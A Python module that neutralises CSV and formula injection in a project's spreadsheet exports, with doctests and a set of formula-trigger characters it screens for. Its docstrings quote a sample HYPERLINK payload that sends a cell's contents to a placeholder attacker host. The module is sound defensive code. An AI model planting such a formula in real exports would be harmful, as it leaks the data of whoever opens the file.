"""Text cells that a spreadsheet shows as text and never runs (CSV and formula injection).

A citizen's comment, a unit name from the catalogue or a value of an input file such as
``=HYPERLINK("http://evil.example/?"&A1,"x")`` must not become a live formula when an
export is opened in Excel or LibreOffice. Every CSV and XLSX that sipas writes goes through
this module (the app's exports, the analysis commands, the plan report); it lives in
``analysis`` so that both packages can use it (the app imports analysis, never the reverse).

The rule, per format:

- **CSV** has no cell types, so a text cell whose first character is ``=``, ``+``, ``-``,
  ``@``, a tab or a carriage return gets a leading single quote (the OWASP recommendation):
  ``=1+1`` is written ``'=1+1``. Only strings are touched: a number (``-2`` held as a number,
  any numeric column) is written as it is. To make the quote reversible, a string that
  already starts with quotes followed by one of those characters (``'=1``) gets one more
  quote; :func:`restore` removes exactly one, so ``restore(neutralise(s)) == s`` for every
  string ``s``. :func:`analysis.read_responses` applies :func:`restore` to a CSV it reads,
  so a response export round-trips: text comes back without the added quote, answer columns
  (numbers, never quoted) are unchanged.
- **XLSX** has cell types: a text cell is stored as a string cell (``data_type "s"``; openpyxl
  otherwise stores a ``str`` starting with ``=`` as a formula), and one that starts with a
  character above also gets the "quote prefix" style, which keeps it text when someone edits
  it in Excel. The value itself is not changed, so it reads exactly as in the app (except
  that XML turns a carriage return into a line feed, as it does for every cell).

>>> neutralise('=HYPERLINK("http://evil.example/","x")')
'\\'=HYPERLINK("http://evil.example/","x")'
>>> neutralise("-2+3"), neutralise(-2), neutralise("Cán bộ nhiệt tình")
("'-2+3", -2, 'Cán bộ nhiệt tình')
>>> restore(neutralise("'=1")), restore("'=1"), restore("'ok")
("'=1", '=1', "'ok")
"""

from __future__ import annotations

from collections.abc import Callable, Iterable
from typing import TYPE_CHECKING, Any

import numpy as np
import pandas as pd

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet.worksheet import Worksheet

__all__ = ["DANGEROUS", "inert_worksheet", "neutralise", "neutralise_frame", "restore",
           "restore_frame", "text_columns"]

#: First characters that make a spreadsheet read a cell as a formula (or a DDE command).
DANGEROUS = frozenset({"=", "+", "-", "@", "\t", "\r"})


def _quoted_formula(text: str) -> bool:
    """Starts with a dangerous character after any leading quotes (the CSV escape rule)."""
    return text.lstrip("'")[:1] in DANGEROUS


def neutralise(value: Any) -> Any:
    """A CSV cell: a string that a spreadsheet would run gets a leading ``'``; anything else
    (numbers, None, ordinary text) is returned as it is (the same object)."""
    if isinstance(value, str) and _quoted_formula(value):
        return "'" + value
    return value


def restore(value: Any) -> Any:
    """The inverse of :func:`neutralise`: one leading ``'`` removed where it added one."""
    if isinstance(value, str) and value[:1] == "'" and _quoted_formula(value):
        return value[1:]
    return value


def _is_text(dtype: Any) -> bool:
    return pd.api.types.is_object_dtype(dtype) or isinstance(dtype, pd.StringDtype | pd.CategoricalDtype)


def text_columns(frame: pd.DataFrame) -> list[int]:
    """1-based positions of the columns that may hold text (object, string, categorical):
    the ``columns`` of :func:`inert_worksheet` for a frame written without its index."""
    return [j for j, dtype in enumerate(frame.dtypes, 1) if _is_text(dtype)]


def _map_text(column: pd.Series, fn: Callable[[Any], Any]) -> pd.Series:
    """``fn`` applied to the distinct values of a text column (fast at a million rows: the
    export's coded columns hold a handful of values); other columns are returned as they are."""
    if not _is_text(column.dtype):
        return column
    codes, uniques = pd.factorize(column, use_na_sentinel=True)
    lookup = np.empty(len(uniques), dtype=object)
    changed = []
    for j, value in enumerate(uniques):
        lookup[j] = new = fn(value)
        if new is not value:
            changed.append(j)
    if not changed:
        return column
    # Only the changed (string) values are replaced: factorize would merge 1, 1.0 and True.
    values = column.to_numpy(dtype=object, copy=True)
    hit = np.isin(codes, changed)
    values[hit] = lookup[codes[hit]]
    return pd.Series(values, index=column.index, name=column.name, dtype=object)


def _map_frame(frame: pd.DataFrame, fn: Callable[[Any], Any]) -> pd.DataFrame:
    names = [fn(name) for name in frame.columns]
    out = frame.copy(deep=False)
    out.columns = pd.RangeIndex(len(names))  # positions: column names may repeat
    for j in range(len(names)):
        out[j] = _map_text(frame.iloc[:, j], fn)
    out.columns = pd.Index(names)
    return out


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` to write as CSV: :func:`neutralise` on the column names and on
    the cells of text (object, string, categorical) columns; numeric columns unchanged.

    >>> df = pd.DataFrame({"text": ["=1+1", "ok", None], "n": [-2, 0, 3]})
    >>> neutralise_frame(df).to_csv(index=False).splitlines()
    ['text,n', "'=1+1,-2", 'ok,0', ',3']
    """
    return _map_frame(frame, neutralise)


def restore_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """The frame read from a CSV that :func:`neutralise_frame` wrote, as it was."""
    return _map_frame(frame, restore)


def _inert(cell: Cell) -> None:
    value = cell.value
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl took a str starting with "=" for a formula
        if value[:1] in DANGEROUS:
            cell.quotePrefix = True


def inert_worksheet(ws: Worksheet, *, columns: Iterable[int] | None = None) -> None:
    """Make the text cells of ``ws`` strings, never formulas (see the module docstring).

    Call it once the sheet is written. ``columns`` (1-based) limits the work to the header
    row and those columns, for a large sheet whose other columns hold only numbers and dates.
    """
    if columns is None:
        for row in ws.iter_rows():
            for cell in row:
                _inert(cell)
        return
    for row in ws.iter_rows(min_row=1, max_row=1):
        for cell in row:
            _inert(cell)
    for j in sorted(set(columns)):
        for (cell,) in ws.iter_rows(min_row=2, min_col=j, max_col=j):
            _inert(cell)
